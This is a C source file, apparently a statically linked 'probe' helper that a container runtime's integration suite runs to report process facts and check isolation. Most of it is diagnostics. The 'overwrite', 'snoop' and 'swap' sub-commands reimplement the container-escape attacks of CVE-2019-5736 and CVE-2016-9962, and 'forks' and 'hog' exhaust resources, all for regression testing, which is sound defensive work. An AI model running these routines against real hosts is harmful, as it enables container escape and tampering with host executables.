/*
 * probe: the one program the integration suite runs inside containers.
 *
 * `probe facts` prints one JSON object with everything the kernel says about the calling process; the other
 * sub-commands act (try a system call, try to open a path, hold memory, fork, wait for signals) and print what
 * happened. It is linked statically, so a root file system needs nothing else.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <linux/capability.h>
#include <netinet/in.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/personality.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/statfs.h>
#include <sys/statvfs.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <sys/un.h>
#include <sys/utsname.h>
#include <sys/wait.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

extern char **environ;

static void json_text(const char *text) {
	putchar('"');
	for (const unsigned char *at = (const unsigned char *)text; *at != 0; at++) {
		if (*at == '"' || *at == '\\')
			printf("\\%c", *at);
		else if (*at < 32 || *at > 126)
			printf("\\u%04x", *at);
		else
			putchar(*at);
	}
	putchar('"');
}

static void json_list(const char *key, char **items) {
	printf("\"%s\":[", key);
	for (size_t i = 0; items[i] != NULL; i++) {
		if (i > 0)
			putchar(',');
		json_text(items[i]);
	}
	printf("],");
}

/* The file as one JSON string, or null when it cannot be read. */
static void json_file(const char *key, const char *path) {
	static char content[1 << 18];
	printf("\"%s\":", key);
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	size_t used = 0;
	if (fd >= 0) {
		for (;;) {
			ssize_t got = read(fd, content + used, sizeof content - 1 - used);
			if (got <= 0)
				break;
			used += (size_t)got;
		}
		close(fd);
		content[used] = 0;
		json_text(content);
	} else {
		printf("null");
	}
	putchar(',');
}

/* "key":{"name":"readlink target"} for each entry of a /proc directory; works without /proc by trying numbers. */
static void json_links(const char *key, const char *directory) {
	char target[4096];
	printf("\"%s\":{", key);
	DIR *dir = opendir(directory);
	bool first = true;
	for (struct dirent *entry; dir != NULL && (entry = readdir(dir)) != NULL;) {
		if (entry->d_name[0] == '.' || (strcmp(key, "fds") == 0 && atoi(entry->d_name) == dirfd(dir)))
			continue;
		ssize_t length = readlinkat(dirfd(dir), entry->d_name, target, sizeof target - 1);
		if (length < 0)
			continue;
		target[length] = 0;
		printf("%s\"%s\":", first ? "" : ",", entry->d_name);
		json_text(target);
		first = false;
	}
	if (dir != NULL)
		closedir(dir);
	printf("},");
}

static void fact_limits(void) {
	static const struct {
		const char *name;
		int resource;
	} limits[] = {
	    {"RLIMIT_CPU", RLIMIT_CPU},           {"RLIMIT_FSIZE", RLIMIT_FSIZE},       {"RLIMIT_DATA", RLIMIT_DATA},
	    {"RLIMIT_STACK", RLIMIT_STACK},       {"RLIMIT_CORE", RLIMIT_CORE},         {"RLIMIT_RSS", RLIMIT_RSS},
	    {"RLIMIT_NPROC", RLIMIT_NPROC},       {"RLIMIT_NOFILE", RLIMIT_NOFILE},     {"RLIMIT_MEMLOCK", RLIMIT_MEMLOCK},
	    {"RLIMIT_AS", RLIMIT_AS},             {"RLIMIT_LOCKS", RLIMIT_LOCKS},       {"RLIMIT_SIGPENDING", RLIMIT_SIGPENDING},
	    {"RLIMIT_MSGQUEUE", RLIMIT_MSGQUEUE}, {"RLIMIT_NICE", RLIMIT_NICE},         {"RLIMIT_RTPRIO", RLIMIT_RTPRIO},
	    {"RLIMIT_RTTIME", RLIMIT_RTTIME},
	};
	printf("\"rlimits\":{");
	for (size_t i = 0; i < sizeof limits / sizeof *limits; i++) {
		struct rlimit value;
		if (getrlimit((__rlimit_resource_t)limits[i].resource, &value) != 0)
			continue;
		printf("%s\"%s\":[%lld,%lld]", i > 0 ? "," : "", limits[i].name, (long long)value.rlim_cur, (long long)value.rlim_max);
	}
	printf("},");
}

static void fact_capabilities(void) {
	struct __user_cap_header_struct header = {_LINUX_CAPABILITY_VERSION_3, 0};
	struct __user_cap_data_struct data[2] = {{0, 0, 0}, {0, 0, 0}};
	syscall(SYS_capget, &header, data);
	uint64_t bounding = 0, ambient = 0;
	for (int cap = 0; cap < 64; cap++) {
		if (prctl(PR_CAPBSET_READ, cap, 0, 0, 0) == 1)
			bounding |= 1ULL << cap;
		if (prctl(PR_CAP_AMBIENT, PR_CAP_AMBIENT_IS_SET, cap, 0, 0) == 1)
			ambient |= 1ULL << cap;
	}
	printf("\"caps\":{\"effective\":%llu,\"permitted\":%llu,\"inheritable\":%llu,\"bounding\":%llu,\"ambient\":%llu},",
	       (unsigned long long)data[1].effective << 32 | data[0].effective,
	       (unsigned long long)data[1].permitted << 32 | data[0].permitted,
	       (unsigned long long)data[1].inheritable << 32 | data[0].inheritable, (unsigned long long)bounding,
	       (unsigned long long)ambient);
}

static void fact_scheduling(void) {
	struct {
		uint32_t size, policy;
		uint64_t flags;
		int32_t nice;
		uint32_t priority;
		uint64_t runtime, deadline, period;
		uint32_t util_min, util_max;
	} attr = {.size = sizeof attr};
	syscall(SYS_sched_getattr, 0, &attr, sizeof attr, 0);
	printf("\"scheduler\":{\"policy\":%u,\"flags\":%llu,\"nice\":%d,\"priority\":%u,\"runtime\":%llu,\"deadline\":%llu,\"period\":%llu},",
	       attr.policy, (unsigned long long)attr.flags, attr.nice, attr.priority, (unsigned long long)attr.runtime,
	       (unsigned long long)attr.deadline, (unsigned long long)attr.period);
	cpu_set_t cpus;
	CPU_ZERO(&cpus);
	sched_getaffinity(0, sizeof cpus, &cpus);
	printf("\"cpus\":%d,\"ioprio\":%ld,", CPU_COUNT(&cpus), syscall(SYS_ioprio_get, 1, 0));
	int mode = -1;
	unsigned long nodes[16] = {0};
	long rc = syscall(SYS_get_mempolicy, &mode, nodes, sizeof nodes * 8, NULL, 0L);
	printf("\"mempolicy\":[%d,%lu],", rc == 0 ? mode : -errno, nodes[0]);
}

static void fact_terminal(void) {
	struct winsize size = {0, 0, 0, 0};
	char name[256] = "";
	bool tty = isatty(0) != 0;
	if (tty) {
		ioctl(0, TIOCGWINSZ, &size);
		ttyname_r(0, name, sizeof name);
	}
	printf("\"tty\":{\"is\":[%d,%d,%d],\"rows\":%d,\"cols\":%d,\"name\":", tty, isatty(1), isatty(2), size.ws_row, size.ws_col);
	json_text(name);
	printf(",\"foreground\":%d},", tty ? tcgetpgrp(0) : -1);
}

static void fact_identity(void) {
	uid_t ruid, euid, suid;
	gid_t rgid, egid, sgid;
	getresuid(&ruid, &euid, &suid);
	getresgid(&rgid, &egid, &sgid);
	mode_t mask = umask(0);
	umask(mask);
	printf("\"uid\":[%u,%u,%u],\"gid\":[%u,%u,%u],\"umask\":%u,", ruid, euid, suid, rgid, egid, sgid, mask);
	printf("\"pid\":%d,\"ppid\":%d,\"sid\":%d,\"pgid\":%d,", getpid(), getppid(), getsid(0), getpgid(0));
	gid_t groups[1024];
	int count = getgroups(1024, groups);
	printf("\"groups\":[");
	for (int i = 0; i < count; i++)
		printf("%s%u", i > 0 ? "," : "", groups[i]);
	printf("],\"nnp\":%d,\"dumpable\":%d,\"subreaper\":", prctl(PR_GET_NO_NEW_PRIVS, 0, 0, 0, 0), prctl(PR_GET_DUMPABLE));
	int subreaper = 0, deathsig = 0;
	prctl(PR_GET_CHILD_SUBREAPER, &subreaper);
	prctl(PR_GET_PDEATHSIG, &deathsig);
	printf("%d,\"deathsig\":%d,\"securebits\":%d,", subreaper, deathsig, prctl(PR_GET_SECUREBITS));
}

static void fact_open_fds(void) {
	printf("\"open\":[");
	bool first = true;
	for (int fd = 0; fd < 4096; fd++) {
		if (fcntl(fd, F_GETFD) < 0)
			continue;
		printf("%s%d", first ? "" : ",", fd);
		first = false;
	}
	printf("],");
}

static int command_facts(int argc, char **argv) {
	(void)argc;
	printf("{");
	fact_open_fds();
	json_links("fds", "/proc/self/fd");
	json_links("namespaces", "/proc/self/ns");
	json_list("args", argv);
	json_list("env", environ);
	fact_identity();
	fact_limits();
	fact_capabilities();
	fact_scheduling();
	fact_terminal();
	char cwd[4096] = "";
	long length = syscall(SYS_getcwd, cwd, sizeof cwd);
	printf("\"cwd\":");
	json_text(length < 0 ? strerror(errno) : cwd);
	struct utsname uts;
	uname(&uts);
	char domain[65] = "";
	if (getdomainname(domain, sizeof domain) != 0)
		domain[0] = 0;
	printf(",\"machine\":\"%s\",\"hostname\":", uts.machine);
	json_text(uts.nodename);
	printf(",\"domainname\":");
	json_text(domain);
	printf(",\"personality\":%d,", personality(0xffffffff));
	struct timespec monotonic, boottime;
	clock_gettime(CLOCK_MONOTONIC, &monotonic);
	clock_gettime(CLOCK_BOOTTIME, &boottime);
	printf("\"monotonic\":%lld,\"boottime\":%lld,", (long long)monotonic.tv_sec, (long long)boottime.tv_sec);
	char keyring[256] = "";
	long keylen = syscall(SYS_keyctl, 6 /* KEYCTL_DESCRIBE */, -3 /* session */, keyring, sizeof keyring - 1);
	printf("\"keyring\":");
	json_text(keylen < 0 ? "" : keyring);
	printf(",");
	json_file("status", "/proc/self/status");
	json_file("mountinfo", "/proc/self/mountinfo");
	json_file("cgroup", "/proc/self/cgroup");
	json_file("oom_score_adj", "/proc/self/oom_score_adj");
	json_file("net", "/proc/self/net/dev");
	json_file("uid_map", "/proc/self/uid_map");
	json_file("gid_map", "/proc/self/gid_map");
	json_file("setgroups", "/proc/self/setgroups");
	printf("\"end\":true}\n");
	return 0;
}

/* Runs `attempt` in a child, so that a fatal filter verdict is seen: errno, 0, or minus the signal that ended it. */
static int verdict_of(long (*attempt)(const long *), const long *numbers) {
	int channel[2];
	if (pipe(channel) != 0)
		return 9999;
	fflush(stdout);
	pid_t child = fork();
	if (child == 0) {
		signal(SIGSYS, SIG_DFL);
		long rc = attempt(numbers);
		int code = rc == -1 ? errno : 0;
		ssize_t wrote = write(channel[1], &code, sizeof code);
		(void)wrote;
		syscall(SYS_exit_group, 0);
	}
	close(channel[1]);
	int code = 0, status = 0;
	bool answered = read(channel[0], &code, sizeof code) == (ssize_t)sizeof code;
	close(channel[0]);
	waitpid(child, &status, 0);
	return answered ? code : -(WTERMSIG(status));
}

static long attempt_syscall(const long *n) { return syscall(n[0], n[1], n[2], n[3], n[4], n[5], n[6]); }

/* `probe calls NR[,a0[,a1…]] …` -> {"NR,a0": errno | 0 | -signal}; arguments that are left out are -1. */
static int command_calls(int argc, char **argv) {
	printf("{");
	for (int i = 0; i < argc; i++) {
		long numbers[7] = {0, -1, -1, -1, -1, -1, -1};
		char *copy = strdup(argv[i]), *rest = copy;
		for (int k = 0; k < 7; k++) {
			char *word = strsep(&rest, ",");
			if (word == NULL)
				break;
			numbers[k] = (long)strtoull(word, NULL, 0);
		}
		printf("%s\"%s\":%d", i > 0 ? "," : "", argv[i], verdict_of(attempt_syscall, numbers));
		free(copy);
	}
	printf("}\n");
	return 0;
}

static long try_path(const char *kind, const char *path) {
	char byte = 0;
	int fd;
	switch (kind[0]) {
	case 'r': /* read one byte, or list a directory */
		fd = open(path, O_RDONLY | O_CLOEXEC);
		if (fd < 0)
			return -1;
		if (read(fd, &byte, 1) < 0 && errno != EISDIR)
			return -1;
		return close(fd);
	case 'o': /* open for reading */
		fd = open(path, O_RDONLY | O_CLOEXEC);
		return fd < 0 ? -1 : close(fd);
	case 'w': /* open for writing */
		fd = open(path, O_WRONLY | O_CLOEXEC);
		return fd < 0 ? -1 : close(fd);
	case 'z': /* write one byte */
		fd = open(path, O_WRONLY | O_CLOEXEC);
		if (fd < 0)
			return -1;
		return write(fd, "0", 1) < 0 ? -1 : close(fd);
	case 'c': /* create a file */
		fd = open(path, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0644);
		return fd < 0 ? -1 : close(fd);
	case 'd':
		return mkdir(path, 0755);
	case 'n': /* a node of /dev/full */
		return mknod(path, S_IFCHR | 0666, (dev_t)(1 << 8 | 7));
	case 'x':
		execl(path, path, "true", (char *)NULL);
		return -1;
	case 'l':
		return symlink("/", path);
	case 'u':
		return unlink(path);
	case 'e': /* entries of a directory are there */ {
		DIR *dir = opendir(path);
		int count = 0;
		while (dir != NULL && readdir(dir) != NULL)
			count++;
		errno = count > 2 ? 0 : ENODATA;
		return count > 2 ? 0 : -1;
	}
	default:
		errno = EINVAL;
		return -1;
	}
}

/* `probe paths r:/a w:/b …` -> {"r:/a": errno or 0}. */
static int command_paths(int argc, char **argv) {
	printf("{");
	for (int i = 0; i < argc; i++) {
		long rc = 0;
		if (argv[i][0] == 'x') {
			fflush(stdout);
			int status = 0;
			pid_t child = fork();
			if (child == 0) {
				try_path("x", argv[i] + 2);
				_exit(errno);
			}
			waitpid(child, &status, 0);
			rc = WEXITSTATUS(status);
		} else {
			errno = 0;
			rc = try_path(argv[i], argv[i] + 2) < 0 ? errno : 0;
		}
		printf("%s", i > 0 ? "," : "");
		json_text(argv[i]);
		printf(":%ld", rc);
	}
	printf("}\n");
	return 0;
}

/* b:PORT and c:PORT bind and connect a new TCP socket on 127.0.0.1, B: and C: the one on standard input; a:NAME connects to an abstract name. */
static int try_dial(const char *word) {
	bool given = word[0] == 'B' || word[0] == 'C', bind_it = word[0] == 'b' || word[0] == 'B';
	if (word[0] == 'a') {
		struct sockaddr_un name = {.sun_family = AF_UNIX};
		size_t length = strnlen(word + 2, sizeof name.sun_path - 1);
		memcpy(name.sun_path + 1, word + 2, length);
		int fd = socket(AF_UNIX, SOCK_STREAM, 0);
		return fd < 0 ? fd : connect(fd, (struct sockaddr *)&name, (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + length));
	}
	struct sockaddr_in address = {.sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(word + 2))};
	address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	int fd = given ? 0 : socket(AF_INET, SOCK_STREAM, 0);
	if (fd < 0)
		return fd;
	return (bind_it ? bind : connect)(fd, (struct sockaddr *)&address, sizeof address);
}

/* `probe dial b:PORT c:PORT …` -> {"b:PORT": errno or 0}. */
static int command_dial(int argc, char **argv) {
	for (int i = 0; i < argc; i++) {
		int rc = try_dial(argv[i]) < 0 ? errno : 0;
		printf("%s", i > 0 ? "," : "{");
		json_text(argv[i]);
		printf(":%d", rc);
	}
	printf("}\n");
	return 0;
}

/* `probe stat PATH…` -> {PATH: {type, mode, uid, gid, rdev, fstype, flags} or errno}; links are not followed. */
static int command_stat(int argc, char **argv) {
	printf("{");
	for (int i = 0; i < argc; i++) {
		struct stat facts;
		struct statfs volume = {0};
		struct statvfs flags = {0};
		printf("%s", i > 0 ? "," : "");
		json_text(argv[i]);
		if (lstat(argv[i], &facts) != 0) {
			printf(":%d", errno);
			continue;
		}
		statfs(argv[i], &volume);
		statvfs(argv[i], &flags);
		char target[4096] = "";
		ssize_t length = readlink(argv[i], target, sizeof target - 1);
		target[length < 0 ? 0 : length] = 0;
		printf(":{\"type\":%u,\"mode\":%u,\"uid\":%u,\"gid\":%u,\"rdev\":[%u,%u],\"magic\":%lu,\"flags\":%lu,\"ino\":%lu,\"target\":",
		       facts.st_mode & S_IFMT, facts.st_mode & 07777, facts.st_uid, facts.st_gid, (unsigned)(facts.st_rdev >> 8 & 0xfff),
		       (unsigned)(facts.st_rdev & 0xff), (unsigned long)volume.f_type, flags.f_flag, (unsigned long)facts.st_ino);
		json_text(target);
		printf("}");
	}
	printf("}\n");
	return 0;
}

static void on_signal(int number) {
	char line[32];
	int length = snprintf(line, sizeof line, "signal %d\n", number);
	ssize_t wrote = write(1, line, (size_t)length);
	(void)wrote;
	if (number == SIGTERM)
		_exit(0);
}

/* Waits for ever, reaping; prints each signal it gets, ends with 0 on SIGTERM. */
static _Noreturn void wait_for_signals(const char *greeting) {
	for (int number = 1; number < 32; number++) /* SIGURG is left out: Go programs forward their own */
		if (strchr("\x11\x09\x13\x14\x16\x17", number) == NULL)
			signal(number, on_signal);
	printf("%s\n", greeting);
	fflush(stdout);
	for (;;) {
		if (wait(NULL) < 0 && errno == ECHILD) {
			struct timespec pause_time = {0, 50000000};
			nanosleep(&pause_time, NULL);
		}
	}
}

static int command_wait(int argc, char **argv) { wait_for_signals(argc > 0 ? argv[0] : "ready"); }

static int command_tty(int argc, char **argv) {
	(void)argc;
	(void)argv;
	sigset_t set;
	sigemptyset(&set);
	sigaddset(&set, SIGWINCH);
	sigaddset(&set, SIGINT);
	sigaddset(&set, SIGTERM);
	sigprocmask(SIG_BLOCK, &set, NULL);
	for (int number = SIGWINCH;; sigwait(&set, &number)) {
		struct winsize size = {0, 0, 0, 0};
		ioctl(0, TIOCGWINSZ, &size);
		printf("signal %d size %dx%d\n", number, size.ws_row, size.ws_col);
		fflush(stdout);
		if (number != SIGWINCH)
			return 7;
	}
}

/* Allocates and touches MiB after MiB up to the number given, telling how far it came. */
static int command_hog(int argc, char **argv) {
	long wanted = argc > 0 ? atol(argv[0]) : 1024;
	for (long mib = 1; mib <= wanted; mib++) {
		char *page = mmap(NULL, 1 << 20, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
		if (page == MAP_FAILED) {
			printf("%d errno after %ld\n", errno, mib);
			return 3;
		}
		memset(page, 1, 1 << 20);
	}
	printf("held %ld\n", wanted);
	fflush(stdout);
	if (argc > 1)
		pause();
	return 0;
}

/* Forks children that only wait until a fork fails or the number is reached; prints how many there were. */
static int command_forks(int argc, char **argv) {
	long wanted = argc > 0 ? atol(argv[0]) : 1000, made = 0;
	int failure = 0;
	fflush(stdout);
	while (made < wanted) {
		pid_t child = fork();
		if (child == 0) {
			pause();
			_exit(0);
		}
		if (child < 0) {
			failure = errno;
			break;
		}
		made++;
	}
	printf("{\"made\":%ld,\"errno\":%d}\n", made, failure);
	fflush(stdout);
	signal(SIGTERM, SIG_IGN);
	kill(0, SIGTERM);
	kill(-1, SIGKILL);
	return 0;
}

/* Spins for the wall-clock seconds given; prints the CPU time it got in milliseconds. */
static int command_burn(int argc, char **argv) {
	double seconds = argc > 0 ? atof(argv[0]) : 1.0;
	struct timespec start, now, used;
	clock_gettime(CLOCK_MONOTONIC, &start);
	do
		clock_gettime(CLOCK_MONOTONIC, &now);
	while ((double)(now.tv_sec - start.tv_sec) + (double)(now.tv_nsec - start.tv_nsec) / 1e9 < seconds);
	clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &used);
	printf("{\"cpu_ms\":%ld}\n", (long)(used.tv_sec * 1000 + used.tv_nsec / 1000000));
	return 0;
}

/*
 * The overwrite attack of CVE-2019-5736: watches /proc for processes other than itself, keeps a handle on what they
 * execute, and tries to write there until the time is over. Prints how many handles and how many writes it got.
 */
static int command_overwrite(int argc, char **argv) {
	double seconds = argc > 0 ? atof(argv[0]) : 2.0;
	struct stat self_exe;
	stat("/proc/self/exe", &self_exe);
	int held[256], count = 0, written = 0, seen = 0;
	ino_t inodes[256];
	time_t end = time(NULL) + (time_t)(seconds + 1);
	printf("armed\n");
	fflush(stdout);
	while (time(NULL) < end) {
		DIR *proc = opendir("/proc");
		for (struct dirent *entry; proc != NULL && (entry = readdir(proc)) != NULL;) {
			char path[300];
			struct stat facts;
			if (entry->d_name[0] < '0' || entry->d_name[0] > '9')
				continue;
			snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
			int fd = open(path, O_PATH | O_CLOEXEC);
			if (fd < 0)
				continue;
			bool known = fstat(fd, &facts) != 0 || facts.st_ino == self_exe.st_ino || count == 256;
			for (int i = 0; i < count && !known; i++)
				known = inodes[i] == facts.st_ino;
			if (known) {
				close(fd);
				continue;
			}
			seen++;
			inodes[count] = facts.st_ino;
			held[count++] = fd;
		}
		if (proc != NULL)
			closedir(proc);
		for (int i = 0; i < count; i++) {
			char path[64];
			snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
			int fd = open(path, O_WRONLY | O_CLOEXEC);
			if (fd < 0)
				continue;
			if (write(fd, "overwritten by the container\n", 29) > 0)
				written++;
			close(fd);
		}
	}
	printf("{\"seen\":%d,\"written\":%d}\n", seen, written);
	return 0;
}

/* On the host: exchanges two paths as fast as it can until it is ended. */
static int command_swap(int argc, char **argv) {
	if (argc < 2)
		return 2;
	printf("swapping\n");
	fflush(stdout);
	for (;;)
		if (syscall(SYS_renameat2, AT_FDCWD, argv[0], AT_FDCWD, argv[1], 2 /* RENAME_EXCHANGE */) != 0 && errno != ENOENT)
			return 3;
}

/*
 * The attack of CVE-2016-9962: looks at every process that appears beside its own for the seconds given, and prints
 * each descriptor, root and working directory that it could read there.
 */
static int command_snoop(int argc, char **argv) {
	time_t end = time(NULL) + (argc > 0 ? atoi(argv[0]) : 2);
	char seen[64][256];
	int count = 0;
	printf("armed\n");
	fflush(stdout);
	while (time(NULL) < end) {
		DIR *proc = opendir("/proc");
		for (struct dirent *entry; proc != NULL && (entry = readdir(proc)) != NULL;) {
			char path[300], exe[256] = "";
			if (entry->d_name[0] < '0' || entry->d_name[0] > '9' || atoi(entry->d_name) == getpid())
				continue;
			snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
			ssize_t length = readlink(path, exe, sizeof exe - 1);
			exe[length < 0 ? 0 : length] = 0;
			if (strncmp(exe, "/bin/", 5) == 0 || strncmp(exe, "/probe", 6) == 0)
				continue;
			snprintf(path, sizeof path, "/proc/%s/fd", entry->d_name);
			DIR *fds = opendir(path);
			for (struct dirent *fd; fds != NULL && (fd = readdir(fds)) != NULL;) {
				struct stat facts;
				char target[200] = "";
				if (fd->d_name[0] == '.' || fstatat(dirfd(fds), fd->d_name, &facts, 0) != 0)
					continue;
				length = readlinkat(dirfd(fds), fd->d_name, target, sizeof target - 1);
				target[length < 0 ? 0 : length] = 0;
				char line[256];
				snprintf(line, sizeof line, "%o %s", (unsigned)(facts.st_mode & S_IFMT), target);
				bool known = count == 64;
				for (int i = 0; i < count && !known; i++)
					known = strcmp(seen[i], line) == 0;
				if (!known)
					strcpy(seen[count++], line);
			}
			if (fds != NULL)
				closedir(fds);
		}
		if (proc != NULL)
			closedir(proc);
	}
	printf("{\"seen\":[");
	for (int i = 0; i < count; i++) {
		printf("%s", i > 0 ? "," : "");
		json_text(seen[i]);
	}
	printf("]}\n");
	return 0;
}

/* Sends READY=1 (or the text given) to $NOTIFY_SOCKET, then waits. */
static int command_ready(int argc, char **argv) {
	struct sockaddr_un address = {.sun_family = AF_UNIX};
	const char *path = getenv("NOTIFY_SOCKET");
	if (path == NULL)
		return 4;
	snprintf(address.sun_path, sizeof address.sun_path, "%s", path);
	int fd = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	const char *text = argc > 0 ? argv[0] : "READY=1";
	if (sendto(fd, text, strlen(text), 0, (struct sockaddr *)&address, sizeof address) < 0)
		return 5;
	pause();
	return 0;
}

static int command_exit(int argc, char **argv) { return argc > 0 ? atoi(argv[0]) : 0; }

/* Ends itself with a signal; of use where it is not the init of a pid namespace. */
static int command_die(int argc, char **argv) {
	int number = argc > 0 ? atoi(argv[0]) : SIGKILL;
	signal(number, SIG_DFL);
	kill(getpid(), number);
	return 99;
}

/* `probe echo`: copies standard input to standard output until its end, then says so on standard error. */
static int command_echo(int argc, char **argv) {
	char buffer[4096];
	ssize_t got;
	(void)argc;
	(void)argv;
	while ((got = read(0, buffer, sizeof buffer)) > 0)
		if (write(1, buffer, (size_t)got) != got)
			return 1;
	dprintf(2, "end\n");
	return 0;
}

/* `probe readfd N`: what a handed-over descriptor holds. */
static int command_readfd(int argc, char **argv) {
	char buffer[4096];
	for (int i = 0; i < argc; i++) {
		ssize_t got = pread(atoi(argv[i]), buffer, sizeof buffer, 0);
		if (got < 0)
			printf("errno %d\n", errno);
		else
			printf("%.*s\n", (int)got, buffer);
	}
	return 0;
}

/* `probe spawn`: leaves a grandchild that waits, then waits itself: two processes in the container. */
static int command_spawn(int argc, char **argv) {
	(void)argc;
	(void)argv;
	if (fork() == 0) {
		setsid();
		for (;;)
			pause();
	}
	wait_for_signals("ready");
}

int main(int argc, char **argv) {
	static const struct {
		const char *name;
		int (*run)(int, char **);
	} commands[] = {
	    {"facts", command_facts}, {"calls", command_calls},   {"paths", command_paths}, {"stat", command_stat},
	    {"wait", command_wait},   {"tty", command_tty},       {"hog", command_hog},     {"forks", command_forks},
	    {"burn", command_burn},   {"overwrite", command_overwrite}, {"swap", command_swap}, {"snoop", command_snoop}, {"ready", command_ready}, {"exit", command_exit},
	    {"die", command_die},     {"echo", command_echo},     {"readfd", command_readfd}, {"spawn", command_spawn},
	    {"dial", command_dial},
	};
	for (size_t i = 0; argc > 1 && i < sizeof commands / sizeof *commands; i++)
		if (strcmp(argv[1], commands[i].name) == 0)
			return commands[i].run(argc - 2, argv + 2);
	fprintf(stderr, "probe: unknown command\n");
	return 120;
}
